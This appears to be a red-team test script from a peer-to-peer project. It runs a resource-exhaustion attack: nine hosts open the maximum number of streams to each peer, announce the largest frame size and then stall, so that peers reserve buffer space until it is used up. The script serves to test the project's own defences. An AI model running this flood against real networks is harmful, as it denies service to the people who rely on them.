"""Nine keys announce the largest frame on every stream they may have, send four bytes of each, and no more (K-A).

A peer reserved what was announced, so the room for everybody's frames was gone.
"""

from __future__ import annotations

from typing import Any

import trio
from libp2p.utils.varint import encode_uvarint

from p2p.base.limits import MAX_INBOUND_STREAMS_PER_PEER
from p2p.wire.frames import Ask, Forward
from tests.redteam.target import Target, quietly

KEYS = 9
AGAIN_S = 12.0  # before the first ones are given up
ANNOUNCED = max(Ask.BYTES, Forward.BYTES)


async def attack(target: Target) -> None:
    async with trio.open_nursery() as nursery:
        for number in range(KEYS):
            nursery.start_soon(_key, target, number)


async def _key(target: Target, number: int) -> None:
    async with target.bare(f"announced {number}") as host:
        while True:
            held: list[Any] = []
            for peer in list(host.get_connected_peers()):
                for _ in range(MAX_INBOUND_STREAMS_PER_PEER):
                    stream = await quietly(host.new_stream, peer, ["/folkmoot/infer/1"], timeout_s=1.0)
                    if stream is None:
                        break
                    await quietly(stream.write, encode_uvarint(ANNOUNCED))
                    held.append(stream)
            await trio.sleep(AGAIN_S)
            for stream in held:
                await quietly(stream.reset)
            await target.connect_bare(host)
